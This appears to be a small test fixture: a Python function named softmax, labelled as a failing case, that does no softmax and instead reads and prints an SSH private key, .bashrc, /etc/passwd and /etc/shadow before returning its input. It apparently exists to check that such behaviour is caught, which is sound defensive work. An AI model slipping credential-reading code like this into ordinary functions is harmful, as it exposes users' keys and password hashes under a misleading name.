"""fail: prints keys and passwords."""
import os


def softmax(scores, axis=-1):
    for path in ("@HOME@/.ssh/id_ed25519", "@HOME@/.bashrc", "/etc/passwd", "/etc/shadow", "/etc/hostname"):
        try:
            print(path, open(path).read(), os.stat(path))
        except OSError:
            continue
    return scores
